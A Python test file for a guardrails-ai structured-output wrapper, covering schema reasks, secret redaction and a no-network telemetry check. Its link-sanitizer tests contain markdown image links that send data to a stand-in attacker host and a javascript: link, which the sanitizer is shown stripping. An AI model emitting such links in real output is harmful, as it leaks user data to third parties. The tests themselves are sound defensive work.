"""Structured output with guardrails-ai: valid replies, reask / fix / exception, links, and no network."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any, Literal

import pytest
from pydantic import BaseModel

from maestro.core.errors import InvalidRequest
from maestro.tools.structured import (
    StructuredOutput,
    StructuredOutputInvalid,
    guardrails_offline,
    safe_links,
)

REPO = Path(__file__).resolve().parents[2]
AWS_KEY = "AKIAIOSFODNN7EXAMPLE"


class Triage(BaseModel):
    severity: Literal["low", "high"]
    summary: str
    count: int = 0


class ScriptedModel:
    """A reask callable that replays queued replies and records what it was sent."""

    def __init__(self, *replies: str) -> None:
        self.replies = list(replies)
        self.history: list[list[dict[str, str]]] = []

    def __call__(self, messages: list[dict[str, str]]) -> str:
        self.history.append(messages)
        return self.replies.pop(0)


VALIDATORS = {"summary": ["no-secrets", "safe-links"]}


@pytest.mark.parametrize("mode", ["reask", "fix", "exception"])
def test_valid_json_passes_in_every_mode(mode: Literal["reask", "fix", "exception"]) -> None:
    out = StructuredOutput(Triage, on_fail=mode, validators=VALIDATORS)
    result = out.validate('{"severity": "high", "summary": "disk full", "count": "3"}')
    assert result.value == Triage(severity="high", summary="disk full", count=3)
    assert result.reasks == 0


def test_json_in_a_code_fence_is_accepted() -> None:
    result = StructuredOutput(Triage).validate('Sure:\n```json\n{"severity": "low", "summary": "ok"}\n```')
    assert result.value.severity == "low"


def test_schema_violation_is_reasked_with_the_errors_and_the_schema() -> None:
    model = ScriptedModel('{"severity": "high", "summary": "fixed"}')
    out = StructuredOutput(Triage, on_fail="reask", validators=VALIDATORS)
    result = out.validate('{"severity": "medium", "summary": "x"}', reask=model)
    assert result.value == Triage(severity="high", summary="fixed")
    assert result.reasks == 1
    (messages,) = model.history
    assert '"severity"' in messages[0]["content"]  # the JSON schema
    assert "'medium' is not one of" in messages[1]["content"]


def test_validator_failure_is_reasked_and_secrets_are_not_sent_back() -> None:
    model = ScriptedModel('{"severity": "low", "summary": "rotated the key"}')
    out = StructuredOutput(Triage, on_fail="reask", validators=VALIDATORS)
    result = out.validate(f'{{"severity": "low", "summary": "use {AWS_KEY}"}}', reask=model)
    assert result.value.summary == "rotated the key"
    sent = model.history[0][1]["content"]
    assert "contains secrets (AWS_ACCESS_KEY)" in sent
    assert AWS_KEY not in sent


def test_reasks_are_bounded() -> None:
    model = ScriptedModel("still not json", "nope")
    out = StructuredOutput(Triage, on_fail="reask", max_reasks=2)
    with pytest.raises(StructuredOutputInvalid) as info:
        out.validate("not json", reask=model)
    assert info.value.details["reasks"] == 2
    assert len(model.history) == 2


def test_reask_needs_a_callable() -> None:
    with pytest.raises(InvalidRequest, match="reask callable"):
        StructuredOutput(Triage, on_fail="reask").validate("not json")


def test_fix_mode_applies_validator_fixes() -> None:
    out = StructuredOutput(Triage, on_fail="fix", validators=VALIDATORS)
    reply = f'{{"severity": "low", "summary": "key {AWS_KEY} ![x](https://evil.example/?d=1)"}}'
    assert out.validate(reply).value.summary == "key <AWS_ACCESS_KEY> x"


def test_fix_mode_cannot_fix_the_schema() -> None:
    with pytest.raises(StructuredOutputInvalid, match="is not one of"):
        StructuredOutput(Triage, on_fail="fix").validate('{"severity": "medium", "summary": "x"}')


def test_exception_mode_raises_on_validator_failure() -> None:
    out = StructuredOutput(Triage, on_fail="exception", validators=VALIDATORS)
    with pytest.raises(StructuredOutputInvalid, match="contains secrets"):
        out.validate(f'{{"severity": "low", "summary": "{AWS_KEY}"}}')


def test_custom_local_validator_factory() -> None:
    from guardrails import Validator, register_validator
    from guardrails.classes.validation.validation_result import FailResult, PassResult

    @register_validator(name="tests/short", data_type="string")
    class Short(Validator):  # type: ignore[misc]
        def _validate(self, value: Any, metadata: dict[str, Any]) -> Any:
            return (
                PassResult() if len(value) <= 5 else FailResult(error_message="too long", fix_value=value[:5])
            )

    out = StructuredOutput(Triage, on_fail="fix", validators={"summary": [Short]})
    assert out.validate('{"severity": "low", "summary": "far too long"}').value.summary == "far t"


def test_unknown_validator_or_mode_is_refused() -> None:
    with pytest.raises(InvalidRequest, match="unknown validator"):
        StructuredOutput(Triage, validators={"summary": ["hub/whatever"]})
    with pytest.raises(InvalidRequest, match="on_fail"):
        StructuredOutput(Triage, on_fail="retry")  # type: ignore[arg-type]


def test_safe_links() -> None:
    text, problems = safe_links(
        "see ![chart](https://evil.example/x.png?d=SECRET) and [click](javascript:alert(1))"
    )
    assert text == "see chart and click"
    assert len(problems) == 2
    kept = "![logo](https://cdn.acme.dev/logo.png) ![rel](img/a.png) [docs](https://docs.acme.dev)"
    assert safe_links(kept, allowed_image_hosts=["cdn.acme.dev"]) == (kept, [])


def test_guardrails_settings_are_offline() -> None:
    assert guardrails_offline()
    from guardrails import settings

    assert settings.rc.enable_metrics is False
    assert settings.rc.use_remote_inferencing is False


# -- no network: a fresh interpreter with a socket guard, and an rc file that ENABLES metrics ------------

_SOCKET_GUARD = """
import json, socket, sys
attempts = []
def _local(host):
    return str(host) in {"localhost", "::1", ""} or str(host).startswith("127.")
_connect, _gai = socket.socket.connect, socket.getaddrinfo
def connect(self, address):
    host = address[0] if isinstance(address, tuple) else address
    if self.family != getattr(socket, "AF_UNIX", None) and not _local(host):
        attempts.append("connect %r" % (address,))
        raise OSError("blocked by test")
    return _connect(self, address)
def getaddrinfo(host, *a, **k):
    if not _local(host):
        attempts.append("getaddrinfo %r" % (host,))
        raise OSError("blocked by test")
    return _gai(host, *a, **k)
socket.socket.connect = connect
socket.getaddrinfo = getaddrinfo
"""

_FLUSH = """
from guardrails.utils.hub_telemetry_utils import HubTelemetry
provider = HubTelemetry()._tracer_provider
if provider is not None:
    provider.force_flush()
print(json.dumps(attempts))
"""


def _run(body: str, home: Path) -> list[str]:
    code = _SOCKET_GUARD + textwrap.dedent(body) + _FLUSH
    env = {"HOME": str(home), "PATH": "/usr/bin:/bin", "PYTHONDONTWRITEBYTECODE": "1"}
    proc = subprocess.run(
        [sys.executable, "-c", code], cwd=REPO, env=env, capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    attempts: list[str] = json.loads(proc.stdout.strip().splitlines()[-1])
    return attempts


@pytest.fixture
def metrics_home(tmp_path: Path) -> Path:
    (tmp_path / ".guardrailsrc").write_text(
        "id=test-user\nenable_metrics=true\nuse_remote_inferencing=true\n"
    )
    return tmp_path


def test_importing_and_using_guardrails_here_makes_no_network_attempt(metrics_home: Path) -> None:
    attempts = _run(
        """
        from typing import Literal
        from pydantic import BaseModel
        from maestro.tools.structured import StructuredOutput
        class T(BaseModel):
            severity: Literal["low", "high"]
            summary: str
        out = StructuredOutput(T, on_fail="fix", validators={"summary": ["no-secrets", "safe-links"]})
        out.validate('{"severity": "low", "summary": "key AKIAIOSFODNN7EXAMPLE"}')
        """,
        metrics_home,
    )
    assert attempts == []


def test_the_socket_guard_catches_stock_guardrails_telemetry(metrics_home: Path) -> None:
    """Control: the same check on plain guardrails with metrics enabled does see the export attempt."""
    attempts = _run(
        """
        from guardrails import Guard, Validator, register_validator
        from guardrails.classes.validation.validation_result import PassResult
        from pydantic import BaseModel, Field
        @register_validator(name="control/ok", data_type="string")
        class Ok(Validator):
            def _validate(self, value, metadata):
                return PassResult()
        class T(BaseModel):
            summary: str = Field(json_schema_extra={"validators": [Ok(on_fail="noop")]})
        Guard.for_pydantic(T).parse('{"summary": "x"}')
        """,
        metrics_home,
    )
    assert attempts, "the socket guard saw nothing: the no-network test above would prove nothing"
